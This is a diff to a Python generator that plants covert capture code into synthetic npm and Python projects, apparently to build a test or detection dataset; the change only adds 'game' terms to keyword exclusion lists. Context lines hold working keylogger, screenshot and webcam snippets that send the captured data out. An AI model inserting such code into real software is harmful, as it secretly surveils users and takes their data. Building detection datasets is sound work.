@@ -49,7 +49,7 @@ def identifiers_python(r, host):
     )))
 
 
-@plants("data-care.keyboard-capture", "npm", unlike="keyboard input mouse terminal console window x11")
+@plants("data-care.keyboard-capture", "npm", unlike="keyboard input mouse terminal console window x11 game games")
 def keys(r, host):
     host.add_code(r.choice((
         "const { uIOhook } = require('uiohook-napi');\nuIOhook.on('keydown', (e) => { " + send(r, "String(e.keycode)") + " });",
@@ -58,7 +58,7 @@ def keys(r, host):
     )))
 
 
-@plants("data-care.keyboard-capture", "tree", unlike="keyboard input mouse terminal console window x11")
+@plants("data-care.keyboard-capture", "tree", unlike="keyboard input mouse terminal console window x11 game games")
 def keys_python(r, host):
     python(r, host, r.choice((
         "from pynput.keyboard import Listener\nlog = []\nListener(on_press=log.append).start()\n" + post(r, "str(log)"),
@@ -68,7 +68,7 @@ def keys_python(r, host):
     )))
 
 
-@plants("data-care.screen-capture", "npm", "tree", unlike="screen screenshot window display image color x11")
+@plants("data-care.screen-capture", "npm", "tree", unlike="screen screenshot window display image color x11 game games")
 def screen(r, host):
     host.add_code(r.choice((
         "require('screenshot-desktop')().then((p) => { " + send(r, "p") + " });",
@@ -91,7 +91,7 @@ def clipboard(r, host):
     )))
 
 
-@plants("data-care.camera-microphone", "npm", "tree", unlike="camera webcam video photo media audio browser")
+@plants("data-care.camera-microphone", "npm", "tree", unlike="camera webcam video photo media audio browser game games")
 def camera(r, host):
     host.add_code(r.choice((
         "require('node-webcam').capture('p', {}, (e, p) => { " + send(r, "p") + " });",
